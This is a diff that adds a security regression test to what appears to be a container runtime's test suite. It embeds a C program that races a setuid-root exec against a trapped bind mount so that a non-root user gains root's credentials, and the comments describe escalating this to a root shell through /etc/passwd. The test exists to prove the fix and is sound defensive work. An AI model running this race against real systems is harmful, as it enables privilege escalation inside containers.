@@ -441,6 +441,99 @@ int main(int argc, char **argv) {
             #expect(got.contains("own-dir-masked"), "a fresh procfs of a nested pid namespace on a directory: \(report) \(ecid.log().suffix(1500))")
             #expect(got.contains("mount-proc=0") && got.contains("mount-proc-masked") && got.contains("pid1=sh"), "unshare --mount-proc: \(report) \(ecid.log().suffix(1500))")
         }
+        /// ecid opens `/proc/TID` for the caller's thread and checks NOTIF_ID_VALID; the helper
+        /// reads the caller's credentials from that directory later (`Credentials(status:)`,
+        /// after the container's lock and a message). A directory of /proc names a PID, not a
+        /// task: when another thread of the caller's thread group execs, the kernel kills the
+        /// caller and gives the exec'ing thread the leader's PID (de_thread), so a leader's
+        /// /proc/PID then shows the new program's credentials. A uid 1000 program with
+        /// CAP_SYS_ADMIN only in its bounding set (locked: it may gain it) has its leader bind
+        /// /bin over /etc (trapped; the kernel would refuse it, EPERM) while a second thread execs
+        /// a setuid-root program of the image: if the helper reads the status after the exec
+        /// committed root's credentials, it performs the dead leader's bind as root with every
+        /// capability, and /etc shows /bin (a bind of the attacker's files over /etc/passwd would
+        /// make the next `su` a root shell). Must hold: no try wins. The neighbour: every try the
+        /// leader finishes is refused EPERM, and root's own bind (a `runc exec` as root) works.
+        /// Against 2b3a73e: ESCAPED (won after 3814 tries, about 3 s: ecid's log shows the uid 1000
+        /// leader's `mount(/bin, /etc, MS_BIND)` "performed", /etc shows /bin; the kernel's
+        /// locks still hold the VM's side, but inside the container a user without capabilities
+        /// gets any trapped mount as root, the class of
+        /// `GrantAttacks.nonRootHasNoPowerOverTheMountNamespace`). Fix idea:
+        /// pin the task, not the PID: read the status through a pidfd-verified open (compare
+        /// the thread's start time or the exec count (`/proc/TID/stat` field 22, and self_exec_id
+        /// is not visible) before and after), or have ecid read the credentials itself before
+        /// its final NOTIF_ID_VALID and pass them to the helper, so a later exec cannot change
+        /// what a checked notification's caller is.
+        @Test func execByAnotherThreadDoesNotLendItsCredentials() throws {
+            let sandbox = try RuntimeSandbox()
+            defer { sandbox.cleanup() }
+            let ecid = try Daemon(sandbox: sandbox)
+            defer { ecid.kill() }
+            let id = "r7-exec-race"
+            let bundle = try sandbox.makeBundle(id, script: "/bin/r7race 4000 300000 > /out/report 2>&1; [ -e /etc/busybox ] && echo covered >> /out/report; echo done > /out/done") {
+                GrantAttacks.nonRootWithAdminInBounding(&$0)
+            }
+            try GrantAttacks.compile(Self.raceSource, into: bundle, at: "/bin/r7race")
+            try GrantAttacks.compile("int main(void) { return 0; }\n", into: bundle, at: "/bin/r7suid")
+            #expect(chmod(bundle + "/rootfs/bin/r7suid", 0o4755) == 0)
+            #expect(chmod(bundle + "/out", 0o777) == 0)
+            let run = try sandbox.runtime(["run", "--bundle", bundle, id])
+            A.delete(sandbox, id)
+            #expect(run.status == 0, "\(run.stderr)")
+            let report = (try? sandbox.output(bundle, "report")) ?? "(not run)"
+            print("AttackRound7.execByAnotherThreadDoesNotLendItsCredentials: \(report)")
+            #expect(report.contains("no win") && !report.contains("covered"), "a dead caller's bind was performed with its successor's root credentials: \(report) \(ecid.log().suffix(1200))")
+            #expect(!report.contains("eperm=0 "), "the leader's binds were never refused (the race proves nothing): \(report)")
+        }
+
+        static let raceSource = #"""
+// A thread group's leader is stopped in a trapped bind over /etc while another thread execs a
+// setuid-root program: the exec'ing thread takes over the leader's TID, so /proc/TID (which
+// ecid opened for the leader's call) now shows root's credentials.
+#define _GNU_SOURCE
+#include <errno.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/mount.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+static volatile long delay_loops;
+static char *const suid_argv[] = { "/bin/r7suid", NULL };
+static void *execer(void *arg) {
+    (void)arg;
+    for (volatile long i = 0; i < delay_loops; i++) {}
+    execve(suid_argv[0], suid_argv, NULL);
+    _exit(127);
+}
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IONBF, 0);
+    long tries = argc > 1 ? atol(argv[1]) : 3000;
+    long max_delay = argc > 2 ? atol(argv[2]) : 200000;
+    int eperm = 0, other = 0;
+    time_t start = time(NULL);
+    for (long n = 0; n < tries && time(NULL) - start < 40; n++) {
+        if (access("/etc/busybox", F_OK) == 0) { printf("won after %ld tries (getuid %d)\n", n, getuid()); return 0; }
+        pid_t pid = fork();
+        if (pid == 0) {
+            delay_loops = (n * 7919) % max_delay;
+            pthread_t t;
+            pthread_create(&t, NULL, execer, NULL);
+            int rc = mount("/bin", "/etc", NULL, MS_BIND, NULL);
+            _exit(rc == 0 ? 0 : (errno == EPERM ? 1 : 2));
+        }
+        int status = 0;
+        waitpid(pid, &status, 0);
+        if (WIFEXITED(status) && WEXITSTATUS(status) == 1) eperm++;
+        else if (WIFEXITED(status) && WEXITSTATUS(status) == 2) other++;
+    }
+    if (access("/etc/busybox", F_OK) == 0) { printf("won at the end (getuid %d)\n", getuid()); return 0; }
+    printf("no win: eperm=%d other=%d uid=%d\n", eperm, other, getuid());
+    return 0;
+}
+"""#
+
         /// open_tree_attr(2) (Linux 6.15, x86_64 467): `open_tree` with `mount_setattr`'s
         /// attributes applied to the clone, and with no attributes exactly `open_tree`.
         /// SeccompTraps' new-mount-API list (`newMountAPI`: open_tree, move_mount, mount_setattr,
